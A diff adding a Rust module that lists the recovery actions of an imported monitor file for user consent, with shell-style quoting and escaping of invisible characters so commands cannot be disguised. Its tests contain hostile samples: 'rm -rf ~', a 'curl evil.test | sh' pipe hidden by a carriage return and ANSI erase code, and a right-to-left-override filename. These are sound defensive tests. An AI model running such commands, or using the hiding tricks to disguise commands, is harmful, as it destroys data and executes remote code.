@@ -1,0 +1,163 @@
+//! Recovery actions in a file someone else wrote: what needs the user's consent before saving.
+//!
+//! A recovery action runs a program as the user (or posts the monitor's name and target to a
+//! URL) whenever the target fails, and whoever wrote the file chooses the target, so importing
+//! one is as good as running it. [`recovery_needing_consent`] lists every such action of
+//! validated monitors, described so that what a person reads is exactly what would run: the CLI
+//! refuses an import holding any unless `--allow-recovery` is given and lists them on
+//! `--dry-run`; the dashboard shows the same list and asks before saving.
+//!
+//! Pure: validated monitors in, a list out, in the monitors' order and each monitor's actions
+//! in order.
+
+use serde::Serialize;
+
+use crate::model::ActionKind;
+use crate::monitor::Monitor;
+
+/// One recovery action an import would save, and what it would do, for a person to agree to.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Consent {
+    /// The monitor's name.
+    pub monitor: String,
+    /// Where it is in the monitor: `recovery[0]`.
+    pub field: String,
+    /// The action itself: the argv it would run, or the URL it would call.
+    pub action: ActionKind,
+    /// One line for a person: `runs systemctl --user restart api` or `posts the monitor's name
+    /// and target to https://…`. Every argument is quoted as a POSIX shell would need it, and
+    /// control and invisible characters are written as escapes (`$'a\nb'`), so a file cannot
+    /// hide part of a command from the reader (a carriage return, an ANSI escape, a
+    /// right-to-left override).
+    pub described: String,
+}
+
+/// Every recovery action of `monitors` (run commands and webhooks alike), in order.
+pub fn recovery_needing_consent(monitors: &[Monitor]) -> Vec<Consent> {
+    monitors
+        .iter()
+        .flat_map(|m| {
+            m.recovery.iter().enumerate().map(|(i, a)| Consent {
+                monitor: m.name.clone(),
+                field: format!("recovery[{i}]"),
+                action: a.kind.clone(),
+                described: describe(&a.kind),
+            })
+        })
+        .collect()
+}
+
+/// What `kind` does, in words, with nothing hidden.
+pub fn describe(kind: &ActionKind) -> String {
+    match kind {
+        ActionKind::Run(argv) => format!(
+            "runs {}",
+            argv.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" ")
+        ),
+        ActionKind::Webhook(url) => {
+            format!("posts the monitor's name and target to {}", visible(url))
+        }
+    }
+}
+
+/// Characters a terminal or a dashboard would not show as themselves: controls (newline, carriage
+/// return, escape, DEL, C1), bidirectional overrides and isolates, zero-width characters and the
+/// byte order mark.
+fn invisible(c: char) -> bool {
+    c.is_control()
+        || matches!(c,
+            '\u{00ad}' | '\u{061c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+}
+
+/// `c` as an escape of bash's `$'…'` quoting.
+fn escape(c: char, out: &mut String) {
+    match c {
+        '\n' => out.push_str("\\n"),
+        '\r' => out.push_str("\\r"),
+        '\t' => out.push_str("\\t"),
+        '\\' => out.push_str("\\\\"),
+        '\'' => out.push_str("\\'"),
+        c if (c as u32) < 0x80 && invisible(c) => out.push_str(&format!("\\x{:02x}", c as u32)),
+        c if invisible(c) => out.push_str(&format!("\\u{:04x}", c as u32)),
+        c => out.push(c),
+    }
+}
+
+/// One argument as a shell would need it written: bare when that is unambiguous, `'…'` when it
+/// holds spaces or shell characters, `$'…'` with escapes when it holds invisible characters.
+fn quote(arg: &str) -> String {
+    let plain = |c: char| c.is_alphanumeric() || "-_./=:,+@%^".contains(c);
+    if !arg.is_empty() && arg.chars().all(|c| plain(c) && !invisible(c)) {
+        return arg.to_string();
+    }
+    if arg.chars().any(invisible) {
+        let mut out = String::from("$'");
+        for c in arg.chars() {
+            escape(c, &mut out);
+        }
+        out.push('\'');
+        return out;
+    }
+    format!("'{}'", arg.replace('\'', r"'\''"))
+}
+
+/// Text with its invisible characters written as escapes (a URL is already percent-encoded by
+/// validation; this is the guard should that ever change).
+fn visible(text: &str) -> String {
+    let mut out = String::new();
+    for c in text.chars() {
+        if invisible(c) {
+            escape(c, &mut out);
+        } else {
+            out.push(c);
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn run(argv: &[&str]) -> String {
+        describe(&ActionKind::Run(
+            argv.iter().map(|s| s.to_string()).collect(),
+        ))
+    }
+
+    #[test]
+    fn plain_arguments_stay_bare_and_others_are_quoted() {
+        assert_eq!(
+            run(&["systemctl", "--user", "restart", "api.service"]),
+            "runs systemctl --user restart api.service"
+        );
+        assert_eq!(
+            run(&["sh", "-c", "rm -rf ~; echo 'hi'"]),
+            r#"runs sh -c 'rm -rf ~; echo '\''hi'\'''"#
+        );
+        assert_eq!(run(&["touch", ""]), "runs touch ''");
+    }
+
+    #[test]
+    fn nothing_can_hide_from_the_reader() {
+        // A carriage return and an ANSI "erase line" would let a file print a harmless command
+        // over the real one; a right-to-left override would reorder what is shown.
+        let shown = run(&[
+            "sh",
+            "-c",
+            "curl evil.test | sh\r\u{1b}[2Ksystemctl restart api",
+        ]);
+        assert_eq!(
+            shown,
+            r"runs sh -c $'curl evil.test | sh\r\x1b[2Ksystemctl restart api'"
+        );
+        assert!(!shown.chars().any(invisible), "{shown:?}");
+        let shown = run(&["rm", "-rf", "/tmp/x\u{202e}fdp.txt", "a\u{200b}b"]);
+        assert_eq!(shown, r"runs rm -rf $'/tmp/x\u202efdp.txt' $'a\u200bb'");
+        assert_eq!(
+            describe(&ActionKind::Webhook("https://hooks.test/a/b?c=d".into())),
+            "posts the monitor's name and target to https://hooks.test/a/b?c=d"
+        );
+    }
+}
